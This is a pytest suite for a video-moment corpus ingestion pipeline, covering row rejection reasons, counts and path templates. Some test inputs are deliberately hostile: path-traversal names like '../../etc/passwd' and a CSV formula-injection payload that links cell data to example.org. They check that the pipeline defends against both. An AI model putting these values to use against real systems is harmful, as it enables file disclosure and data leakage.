"""What of a corpus is used, what is refused and why, and that nothing is lost on the way."""

import json
import math
import posixpath
import re
import typing
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from ingesting import ingest_params, moment_rows

from pipeline import ingest
from pipeline.core import csv_files, files, tables
from pipeline.core.sections import Corpus
from pipeline.corpora import rejected as rejected_rows
from pipeline.corpora import rules
from pipeline.corpora.rows import Row
from pipeline.ingest import CorpusError, video_path

GOOD = {
    "file": "tvr.jsonl",
    "line": 7,
    "moment_id": 1,
    "video_id": "v1",
    "start": 2.0,
    "end": 4.0,
    "duration": 10.0,
    "description": "She waves.",
}


def row(**changes) -> Row:
    return Row(**GOOD | changes)


def rows_with_own_ids(*changes: dict) -> list[Row]:
    return [row(**{"moment_id": number, "line": number} | it) for number, it in enumerate(changes)]


def ingest_rows(*rows: Row, **changes) -> ingest.Ingested:
    return ingest.ingest(rows, ingest_params(**changes))


def list_reasons(result) -> list[tuple]:
    return list(result.rejected[["line", "reason"]].itertuples(index=False, name=None))


# Usable rows


def test_a_usable_row_is_a_moment_and_its_video():
    result = ingest_rows(row(), videos="videos/{video_id}.mp4")
    assert moment_rows(result) == [("1", "v1", 2.0, 4.0, "She waves.", "v")]
    assert result.videos.to_dict("records") == [
        {"video_id": "v1", "duration": 10.0, "path": "videos/v1.mp4"}
    ]
    assert len(result.rejected) == 0
    counts = {name: count for name, count in result.metrics.items() if count}
    assert counts == {"rows": 1, "moments": 1, "videos": 1, "by_modality": {"v": 1}}


@pytest.mark.parametrize(
    ("changes", "column", "value"),
    [
        ({"moment_id": 90200.0}, "moment_id", "90200"),
        ({"moment_id": 2**63}, "moment_id", "9223372036854775808"),
        ({"moment_id": " 007 "}, "moment_id", "007"),
        ({"video_id": "a b/c%é"}, "video_id", "a b/c%é"),
        ({"start": "0.5"}, "start", 0.5),
        ({"description": " She\n waves\u3000to\t him. "}, "description", "She waves to him."),
        ({"description": "=1+1"}, "description", "=1+1"),
        ({"modality": "vt"}, "modality", "vt"),
    ],
)
def test_fields_are_given_their_types(changes, column, value):
    [moment] = ingest_rows(row(**changes), pool_modalities=["v", "vt"]).moments.to_dict("records")
    assert moment[column] == value
    assert type(moment[column]) is type(value)


# Reasons

CASES = {
    "not-json": [{"problem": "not-json"}],
    "not-utf8": [
        *({"description": text} for text in ("caf\udce9", "\ud800")),
        {"video_id": "v\ud800"},
        {"moment_id": "\udfff"},
    ],
    "bad-character": [
        *({"description": f"She {bad}waves."} for bad in ("\0", "\x1b[31m", "\x9b", "\ue000")),
        {"description": "She wave\ufffd."},
        *({"video_id": f"v{bad}1"} for bad in ("\0", "\x1b", "\u202e", "\u200b", "\u2028")),
        {"moment_id": "m\ufeff1"},
    ],
    "no-id": [{"moment_id": bad} for bad in (None, " ", 1.5, math.nan, math.inf, True, [1])],
    "no-video": [{"video_id": bad} for bad in (None, "\t", {"name": "v1"})],
    "empty-text": [
        {"description": bad} for bad in (None, "", " \u2003\n", "\u202e\u200b", 5, ["She waves."])
    ],
    "too-long": [{"description": "x" * 2001}],
    "id-too-long": [{"moment_id": "x" * 501}, {"video_id": "x" * 501}],
    "unknown-modality": [{"modality": bad} for bad in (None, "V", ["v"])],
    "not-a-number": [
        *({"start": bad} for bad in (None, "soon", "", True, [2])),
        *({"end": bad} for bad in (math.nan, math.inf, "1e999", 10**400)),
    ],
    "no-duration": [{"duration": bad} for bad in (None, 0, -10, "long", math.inf)],
    "negative-time": [{"start": -0.1}, {"start": -2, "end": -1}],
    "too-late": [
        {"start": 1e16, "end": 1e17},
        {"end": 1e308, "duration": 1e308},
        {"duration": 1.1e15},
    ],
    "zero-length": [{"start": 4.0, "end": 4.0}, {"start": "4", "end": 4}],
    "end-not-after-start": [{"start": 5.0, "end": 4.0}],
    "starts-after-video": [{"start": 10.0, "end": 10.5}, {"start": 11.0, "end": 12.0}],
    "ends-after-video": [{"end": 11.0}, {"end": 99.0}],
}
REASONS = [(changes, reason) for reason, cases in CASES.items() for changes in cases]


@pytest.mark.parametrize(("changes", "reason"), REASONS)
def test_a_row_that_cannot_be_used_is_rejected_with_its_place_and_reason(changes, reason):
    result = ingest_rows(row(**changes))
    assert moment_rows(result) == []
    [record] = result.rejected.to_dict("records")
    assert (record["file"], record["line"], record["reason"]) == ("tvr.jsonl", 7, reason)
    assert result.metrics["rejected_by_reason"] == {reason: 1}


def test_every_reason_of_the_code_has_its_case():
    source = Path(rules.__file__).read_text()
    hyphenated = set(re.findall(r'"([a-z0-9]+(?:-[a-z0-9]+)+)"', source)) - {"utf-8"}
    readers_own = {"not-json"}  # one of them stands for all: the tests of the readers have each
    assert CASES.keys() - readers_own == hyphenated - {"duplicate-id"}


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"problem": "not-json", "moment_id": None}, "not-json"),
        ({"problem": "not-json", "description": "\ud800"}, "not-json"),
        ({"moment_id": "\ud800", "video_id": None}, "not-utf8"),
        ({"moment_id": None, "video_id": None, "description": ""}, "no-id"),
        ({"video_id": None, "duration": None}, "no-video"),
        ({"description": "", "modality": "x"}, "empty-text"),
        ({"modality": "x", "start": None}, "unknown-modality"),
    ],
)
def test_of_several_problems_the_first_is_the_reason(changes, reason):
    assert list_reasons(ingest_rows(row(**changes))) == [(7, reason)]


def test_a_rejected_row_is_shown_as_the_file_has_it():
    changes = {"moment_id": 1.5, "start": "soon", "item": "[3]", "description": "Hi"}
    [record] = ingest_rows(row(modality=["v"], **changes)).rejected.to_dict("records")
    assert record == GOOD | changes | {"modality": "['v']", "reason": "no-id"}


# Duplicates, durations, modalities, ends


def test_of_rows_with_one_id_the_first_usable_is_taken():
    rows = [
        row(line=1, end=0, moment_id=5),
        row(line=2, description="First.", moment_id="5"),
        row(line=3, description="Second.", moment_id=5),
        row(line=4, description="Third.", moment_id=5.0, modality="t"),
    ]
    result = ingest_rows(*rows)
    assert [moment[4] for moment in moment_rows(result)] == ["First."]
    reasons = [(1, "end-not-after-start"), (3, "duplicate-id"), (4, "duplicate-id")]
    assert list_reasons(result) == reasons


def test_of_durations_said_equally_often_the_longest_counts():
    second_video = {"video_id": "v2", "duration": 12}
    durations = [{"duration": 10, "end": 11.9}, {"duration": 12}, {"duration": None}]
    result = ingest_rows(*rows_with_own_ids(*durations, second_video))
    assert result.videos["duration"].to_list() == [12.0, 12.0]
    assert [moment[3] for moment in moment_rows(result)] == [11.9, 4.0, 4.0, 4.0]
    assert result.metrics["videos_with_several_durations"] == 1
    assert result.metrics["ends_clipped"] == 0


def test_a_mistyped_duration_is_outvoted_and_counted():
    rows = rows_with_own_ids({"duration": 10, "end": 10.5}, {"duration": 10}, {"duration": 1e308})
    result = ingest_rows(*rows)
    assert result.videos["duration"].to_list() == [10.0]
    assert result.metrics["videos_with_several_durations"] == 1
    assert result.metrics["ends_clipped"] == 1


def test_rows_of_other_modalities_are_counted_and_not_taken():
    rows = rows_with_own_ids({}, {"modality": "t"}, {"modality": "vt"}, {"modality": "vt"})
    visual = ingest_rows(*rows)
    assert [moment[0] for moment in moment_rows(visual)] == ["0"]
    assert visual.metrics["other_modality"] == 3
    wider = ingest_rows(*rows, pool_modalities=["v", "vt"])
    assert [moment[0] for moment in moment_rows(wider)] == ["0", "2", "3"]
    assert wider.metrics["by_modality"] == {"v": 1, "vt": 2}
    assert wider.metrics["other_modality"] == 1
    queries = ingest_rows(*rows, query_modalities=["t"])
    assert [moment[0] for moment in moment_rows(queries)] == ["0", "1"]


def test_only_ends_of_moments_that_are_taken_count_as_clipped():
    rows = rows_with_own_ids({"end": 10.5}, {"end": 10.5, "modality": "t"})
    assert ingest_rows(*rows).metrics["ends_clipped"] == 1


def test_no_rows_are_empty_tables():
    result = ingest_rows()
    assert result.metrics["rows"] == result.metrics["moments"] == result.metrics["rejected"] == 0
    assert list(result.moments.columns) == tables.MOMENTS.columns
    assert list(result.videos.columns) == tables.VIDEOS.columns
    assert list(result.rejected.columns) == rejected_rows.COLUMNS


# Nothing is lost

surrogates = st.text(st.characters(exclude_categories=()), max_size=4)
scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.sampled_from([2**63, -(2**63), 10**30, 10**400, math.nan, math.inf, "1e5", "1e999", "-0"])
    | st.floats()
    | surrogates
)
json_values = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(surrogates, inner, max_size=2),
)
plausible = {
    "moment_id": st.integers(0, 9),
    "video_id": st.sampled_from(["a", "b", "../a"]),
    "start": st.integers(0, 4) | st.floats(0, 9),
    "end": st.integers(4, 11) | st.floats(0, 12),
    "duration": st.integers(9, 10),
    "description": st.just("She waves."),
    "modality": st.sampled_from(tables.MODALITIES),
}
garbage = st.dictionaries(st.sampled_from(list(plausible)), json_values, max_size=2)
garbage_rows = st.builds(
    lambda good, bad: Row("f.jsonl", **good | bad), st.fixed_dictionaries(plausible), garbage
)
lists_of_garbage = st.lists(garbage_rows, max_size=8).map(
    lambda rows: [row._replace(line=number) for number, row in enumerate(rows)]
)


@settings(max_examples=25)
@given(lists_of_garbage, st.floats(0, 3))
def test_every_row_ends_in_exactly_one_place(tmp_path, rows, slack):
    result = ingest_rows(*rows, end_slack=slack, videos="videos/{video_id}.mp4")
    metrics = result.metrics
    assert len(result.moments) + len(result.rejected) + metrics["other_modality"] == len(rows)
    assert metrics["rows"] == len(rows)
    assert metrics["moments"] == len(result.moments) == sum(metrics["by_modality"].values())
    assert metrics["rejected"] == sum(metrics["rejected_by_reason"].values())
    refused = set(result.rejected["line"])
    assert len(refused) == len(result.rejected)
    accepted = [it.moment_id for it in rows if it.line not in refused]
    assert set(result.moments["moment_id"]) <= {str(_whole(it)).strip() for it in accepted}

    joined = result.moments.merge(result.videos, on="video_id", validate="many_to_one")
    assert len(joined) == len(result.moments)
    in_order = (joined["start"] >= 0) & (joined["start"] < joined["end"])
    assert (in_order & (joined["end"] <= joined["duration"])).all()

    csv_files.write_csv(tmp_path / "rejected.csv", result.rejected)
    assert len(csv_files.read_csv(tmp_path / "rejected.csv")) == len(result.rejected)
    files.write_json(tmp_path / "metrics.json", metrics)
    tables.MOMENTS.write(result.moments, tmp_path / "moments.parquet")
    tables.VIDEOS.write(result.videos, tmp_path / "videos.parquet")


def _whole(value: object) -> object:
    return int(value) if isinstance(value, float) and value.is_integer() else value


times = st.sampled_from([None, -1.0, 0.0, 2.0, 4.0, 9.5, 10.0, 10.5, 11.0, 12.0, 1e15, 1e308])


def first_reason(start, end, duration, slack) -> str:  # noqa: PLR0911  (one per reason)
    """Define the reasons for one row whose text and ids are fine."""
    if start is None or end is None:
        return "not-a-number"
    if duration is None or duration <= 0:
        return "no-duration"
    if start < 0 or end < 0:
        return "negative-time"
    if max(start, end, duration) > 1e15:
        return "too-late"
    if end <= start:
        return "zero-length" if end == start else "end-not-after-start"
    if start >= duration:
        return "starts-after-video"
    if end > duration and end - duration >= slack:
        return "ends-after-video"
    return ""


@settings(max_examples=25)
@given(st.lists(st.tuples(times, times, times), max_size=30), st.sampled_from([0.0, 0.5, 1.0]))
def test_reasons_of_times_are_those_of_their_definition(intervals, slack):
    names = ("start", "end", "duration")
    times = [dict(zip(names, interval, strict=True)) for interval in intervals]
    rows = rows_with_own_ids(*(it | {"video_id": f"v{n}"} for n, it in enumerate(times)))
    reasons = [first_reason(*interval, slack) for interval in intervals]
    result = ingest_rows(*rows, end_slack=slack)
    assert list_reasons(result) == [(n, reason) for n, reason in enumerate(reasons) if reason]
    accepted = [str(number) for number, reason in enumerate(reasons) if not reason]
    assert [moment[0] for moment in moment_rows(result)] == accepted


# Paths

TEMPLATES = [
    "videos/{video_id}.mp4",
    "videos/{video_id}",
    "{video_id}",
    "{video_id}.mp4",
    "/data/videos/{video_id}/{video_id}.mp4",
    "/{video_id}",
    "../videos/s_{video_id}.mp4",
    "videos/.{video_id}",
]
segments = st.sampled_from(["..", ".", "/", "a", "~", "\\", "\0", " ", "{video_id}", "é", "%"])
names = st.text(min_size=1) | st.lists(segments, min_size=1, max_size=8).map("".join)


@pytest.mark.parametrize("template", TEMPLATES)
@settings(max_examples=40)
@example("../../x")
@example("/etc/passwd")
@example("a/../../x")
@example("..")
@example("./.")
@given(names)
def test_no_name_leads_out_of_the_templates_folder(template, name):
    path = video_path(template, name)
    folder = posixpath.join("/somewhere/here", posixpath.dirname(template.partition("{")[0]))
    folder = posixpath.normpath(folder)
    if path is not None:
        reached = posixpath.normpath(posixpath.join("/somewhere/here", path))
        assert "\0" not in path
        assert reached != folder
        assert posixpath.commonpath([reached, folder]) == folder


@pytest.mark.parametrize(
    ("template", "name", "path"),
    [
        *(
            ("videos/{video_id}.mp4", name, f"videos/{name}.mp4")
            for name in ("a, b 2", "s01/e02", "é_日本\u202e", "{video_id}{0}%s", "..", "a..b", "~r")
        ),
        ("../videos/{video_id}.mp4", "v1", "../videos/v1.mp4"),
        ("/data/{video_id}/{video_id}.mp4", "v1", "/data/v1/v1.mp4"),
        ("{video_id}", "v1", "v1"),
        *(
            ("videos/{video_id}", name, None)
            for name in ("../../x", "/../x", "a/../../../x", "..", "a\0b")
        ),
        (None, "v1", None),
    ],
)
def test_a_name_has_the_path_that_the_template_says_or_none(template, name, path):
    assert video_path(template, name) == path


def test_videos_whose_name_leads_out_are_counted():
    rows = rows_with_own_ids({}, {"video_id": "../../etc/passwd"}, {"video_id": "a b"})
    result = ingest_rows(*rows, videos="videos/{video_id}")
    assert result.metrics["videos_without_path"] == 1
    assert len(result.moments) == 3
    paths = dict(zip(result.videos["video_id"], result.videos["path"].notna(), strict=True))
    assert paths == {"../../etc/passwd": False, "a b": True, "v1": True}


# The stage


@pytest.fixture
def stage(repository, tmp_path, monkeypatch):
    """Return a function that runs the stage on a TVR file of these lines."""
    monkeypatch.chdir(tmp_path)

    def _stage(*lines, **changes):
        content = files.read_yaml(repository / "params.yaml")
        content["ingest"] |= {"source": "tvr.jsonl", **changes}
        files.write_json(Path("params.yaml"), content)
        texts = [line if isinstance(line, str) else json.dumps(line) for line in lines]
        Path("tvr.jsonl").write_text("".join(f"{text}\n" for text in texts))
        ingest.main()

    return _stage


def tvr(number, **changes):
    usual = {"vid_name": "v1", "duration": 10.0, "ts": [2.0, 4.0], "type": "v"}
    return usual | {"desc": f"She waves {number}.", "desc_id": number} | changes


def hundred_rows(bad):
    return [tvr(number, ts=[1, 0 if number < bad else 2]) for number in range(100)]


def metrics():
    return files.read_json(Path("datasets/work/metrics/ingest.json"))


def read_rejected():
    return csv_files.read_csv(ingest.REJECTED)


def test_the_stage_writes_its_tables_and_metrics(stage):
    stage(tvr(1), tvr(2, type="t"), tvr(3, ts=[4, 2]), max_rejected=0.5)
    assert tables.MOMENTS.read()["moment_id"].to_list() == ["1"]
    assert tables.VIDEOS.read()["video_id"].to_list() == ["v1"]
    columns = ["line", "moment_id", "reason"]
    assert read_rejected()[columns].to_numpy().tolist() == [["3", "3", "end-not-after-start"]]
    counts = metrics()
    assert (counts["rows"], counts["moments"], counts["rejected"]) == (3, 1, 1)
    written = {"metrics", "moments.parquet", "rejected_moments.csv", "videos.parquet"}
    assert {path.name for path in Path("datasets/work").iterdir()} == written


def test_too_many_rejected_rows_stop_the_stage_after_they_are_written(stage):
    with pytest.raises(CorpusError) as caught:
        stage(tvr(1), "no json", tvr(3, desc=""), tvr(4), max_rejected=0.25)
    first, *reasons, last = str(caught.value).splitlines()
    assert "tvr.jsonl: 2 of 4 rows" in first
    assert "ingest.max_rejected (25.00%)" in first
    assert [line.split()[:2] for line in reasons] == [["1", "empty-text"], ["1", "not-json"]]
    assert "tvr.jsonl line 2" in reasons[1]
    assert "datasets/work/rejected_moments.csv" in last
    assert list(read_rejected()["reason"]) == ["not-json", "empty-text"]
    assert metrics()["rejected_by_reason"] == {"empty-text": 1, "not-json": 1}
    assert not tables.MOMENTS.path.exists()
    assert not tables.VIDEOS.path.exists()


@pytest.mark.parametrize("allowed", [0, 1, 29, 98])
def test_as_many_rejected_rows_as_allowed_do_not_stop_it_and_one_more_does(stage, allowed):
    stage(*hundred_rows(allowed), max_rejected=allowed / 100)
    assert len(tables.MOMENTS.read()) == 100 - allowed
    with pytest.raises(CorpusError, match=rf"{allowed + 1} of 100 rows can't be used"):
        stage(*hundred_rows(allowed + 1), max_rejected=allowed / 100)


LIMITS = {"max_characters": 2000, "end_slack": 1.0}


@settings(max_examples=10)
@given(
    st.lists(st.floats(1, 9.98), min_size=1, max_size=9), st.lists(st.integers(2001, 9999)),
    st.sampled_from(typing.get_args(Corpus)),
)  # fmt: skip
def test_the_limit_that_is_advised_keeps_the_rows_and_a_smaller_one_does_not(late, long, corpus):
    changes = [{"end": 10 + seconds} for seconds in late]
    changes += [{"description": "x" * number} for number in long]
    rows = rows_with_own_ids({"end": 5000.0}, *changes)

    def read(**limits):
        params = ingest_params(corpus=corpus, **LIMITS | limits)
        result = ingest.ingest(rows, params)
        found = re.findall(
            r"ingest\.(\w+): ([\d.]+) keeps", "\n".join(ingest.remarks(result, params))
        )
        return len(result.rejected), {name: float(value) for name, value in found}

    rejected, advised = read()
    assert rejected == len(rows)
    assert advised.keys() == {"end_slack", *(["max_characters"] if long else [])}
    advised |= {"max_characters": int(advised.get("max_characters", 2000))}
    assert read(**advised)[0] == 1, "5000 s can't be right"
    assert read(**advised | {"end_slack": advised["end_slack"] - 0.011})[0] > 1
    assert not long or read(**advised | {"max_characters": advised["max_characters"] - 1})[0] > 1


@pytest.mark.parametrize("corpus", typing.get_args(Corpus))
def test_columns_are_advised_only_where_they_are_read(corpus):
    own = ({"video_id": f"v{number}"} | changes for number, (changes, _) in enumerate(REASONS))
    rows = rows_with_own_ids(*own, row(video_id="v")._asdict(), row(video_id="v")._asdict())
    params = ingest_params(corpus=corpus, max_rejected=0.0)
    with pytest.raises(CorpusError) as caught:
        ingest.refuse_useless(ingest.ingest(rows, params), params)
    message = str(caught.value)
    assert [reason for reason in CASES if reason not in message] == []
    assert ("ingest.columns" in message) == (corpus == "table")
    lengths = rows_with_own_ids(*({"start": n, "end": n + 2, "duration": 2} for n in range(9, 30)))
    with pytest.raises(CorpusError, match="those of the moments") as caught:
        ingest.refuse_useless(ingest.ingest(lengths, params), params)
    assert ("ingest.columns" in str(caught.value)) == (corpus == "table")


@pytest.mark.parametrize(
    ("corpus", "late", "reasons"),
    [
        ("charades-sta", 1.54, ["starts-after-video"]),
        ("qvhighlights", 2.0, ["starts-after-video"]),
        ("table", 2.0, ["starts-after-video"]),
        ("tvr", 1.54, ["ends-after-video", "starts-after-video"]),
        ("charades-sta", 2.5, ["ends-after-video", "starts-after-video"]),
    ],
)
def test_the_slack_fits_the_format_where_none_is_set(corpus, late, reasons):
    rows = rows_with_own_ids({"end": 10.0 + late}, {"start": 10.0, "end": 11.0})
    result = ingest_rows(*rows, corpus=corpus, end_slack=None)
    assert list(result.rejected["reason"]) == reasons
    assert result.metrics["ends_clipped"] == 2 - len(reasons)


def test_a_corpus_without_rows_stops_it(stage):
    with pytest.raises(CorpusError, match=r"^tvr\.jsonl: contains no tvr rows$"):
        stage()
    assert len(read_rejected()) == 0
    assert metrics()["rows"] == 0


def test_a_corpus_without_a_usable_row_stops_it_whatever_is_allowed(stage):
    with pytest.raises(CorpusError, match=r"none of the 2 rows can be used:\n"):
        stage("{}", "[]", max_rejected=1.0)
    assert list(read_rejected()["reason"]) == ["no-id", "not-an-object"]


def test_a_corpus_of_other_modalities_stops_it(stage):
    with pytest.raises(CorpusError, match=r"ingest\.query_modalities \['v'\] or"):
        stage(tvr(1, type="t"), tvr(2, type="vt"))


def test_a_long_text_is_shown_by_its_beginning(stage):
    stage(tvr(1), tvr(2, desc="word " * 10**6), max_rejected=0.5)
    record = read_rejected().loc[2]
    assert record["reason"] == "too-long"
    assert "5,000,000 characters" in record["description"]
    assert ingest.REJECTED.stat().st_size < 1000


def test_a_video_tells_its_duration_where_no_row_does():
    rows = rows_with_own_ids({"duration": None}, {"duration": None, "video_id": "w", "end": 9.0})
    probed = {"videos/v1.mp4": 3.5}
    asked = []
    params = ingest_params(videos="videos/{video_id}.mp4")
    result = ingest.ingest(rows, params, lambda paths: asked.extend(paths) or probed)
    assert sorted(asked) == ["videos/v1.mp4", "videos/w.mp4"]
    assert moment_rows(result) == [("0", "v1", 2.0, 3.5, "She waves.", "v")]
    assert list_reasons(result) == [(1, "no-duration")]


def test_a_duration_that_a_row_says_is_not_asked_for():
    rows = rows_with_own_ids({}, {"duration": None})
    params = ingest_params(videos="videos/{video_id}.mp4")
    result = ingest.ingest(rows, params, lambda _: pytest.fail("asked"))
    assert list(result.videos["duration"]) == [10.0]


def test_the_stage_says_what_it_took_rejected_and_did_not_find(stage, capsys):
    stage(tvr(1), tvr(2, desc=""), max_rejected=0.5, videos="nowhere/{video_id}.mp4")
    message = capsys.readouterr().err
    named = ["1 moments of 1 videos", "empty-text", "tvr.jsonl line 2", "ingest.videos"]
    assert [it for it in [*named, "nowhere/v1.mp4"] if it not in message] == []


def test_a_file_of_the_folder_that_is_not_read_is_named(stage, capsys):
    Path("many").mkdir()
    Path("many/a.JSONL").write_text(json.dumps(tvr(1)))
    Path("many/README.md").touch()
    stage(source="many")
    assert "not read" not in capsys.readouterr().err
    Path("many/b.jsonl.GZ").touch()
    Path("many/c.xlsx").touch()
    stage(source="many")
    assert "not read: b.jsonl.GZ, c.xlsx; unpack" in capsys.readouterr().err


def test_a_column_of_the_moments_lengths_is_not_taken_for_the_videos_durations(stage):
    """The longest moment of a video would pass for its duration, and the others for good."""
    rows = [tvr(number, ts=[number, number + 2 + number % 3]) for number in range(1, 30)]
    lengths = [row | {"duration": row["ts"][1] - row["ts"][0]} for row in rows]
    with pytest.raises(CorpusError, match=r"those of the moments.*ingest\.videos"):
        stage(*lengths, max_rejected=1.0)
    stage(*lengths[:9], *(row | {"duration": 60.0} for row in rows[9:]), max_rejected=1.0)
    assert metrics()["durations_of_moments"] == 9
    assert tables.VIDEOS.read()["duration"].to_list() == [60.0]


def test_formulas_in_rejected_rows_are_harmless(stage):
    formula = '=HYPERLINK("http://example.org/?"&A1)'
    stage(tvr(1), tvr("@SUM(1)", desc=formula, vid_name="-1+1", ts=["=1", "+1"]), max_rejected=0.5)
    text = ingest.REJECTED.read_text().splitlines()[1]
    assert text == (
        "tvr.jsonl,2,,'@SUM(1),'-1+1,'=1,'+1,10.0,"
        '"\'=HYPERLINK(""http://example.org/?""&A1)",v,not-a-number'
    )
    assert read_rejected().loc[2, "description"] == formula


UNSEEN = ["\u202eShe\u202c waves.", "She\u200b waves.\U000e0041", "\ufeffShe w\u00adaves\u200d."]


@pytest.mark.parametrize("text", UNSEEN)
def test_what_nobody_sees_is_removed_from_a_description_and_counted(text):
    result, params = ingest_rows(row(description=text)), ingest_params()
    assert result.moments["description"].tolist() == ["She waves."]
    assert result.metrics["texts_cleaned"] == 1
    assert any("invisible" in line for line in ingest.remarks(result, params))


def test_a_joiner_that_is_part_of_the_spelling_stays():
    words = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u062f"
    result = ingest_rows(row(description=words))
    assert result.moments["description"].tolist() == [words]
    assert result.metrics["texts_cleaned"] == 0


def test_broken_text_is_written_so_that_it_can_be_seen(stage):
    stage(tvr(1), tvr(2, desc="lone \ud800", vid_name="nul\0"), max_rejected=0.5)
    record = read_rejected().loc[2, ["description", "reason", "video_id"]].tolist()
    assert record == ["lone \\ud800", "not-utf8", "nul\\x00"]
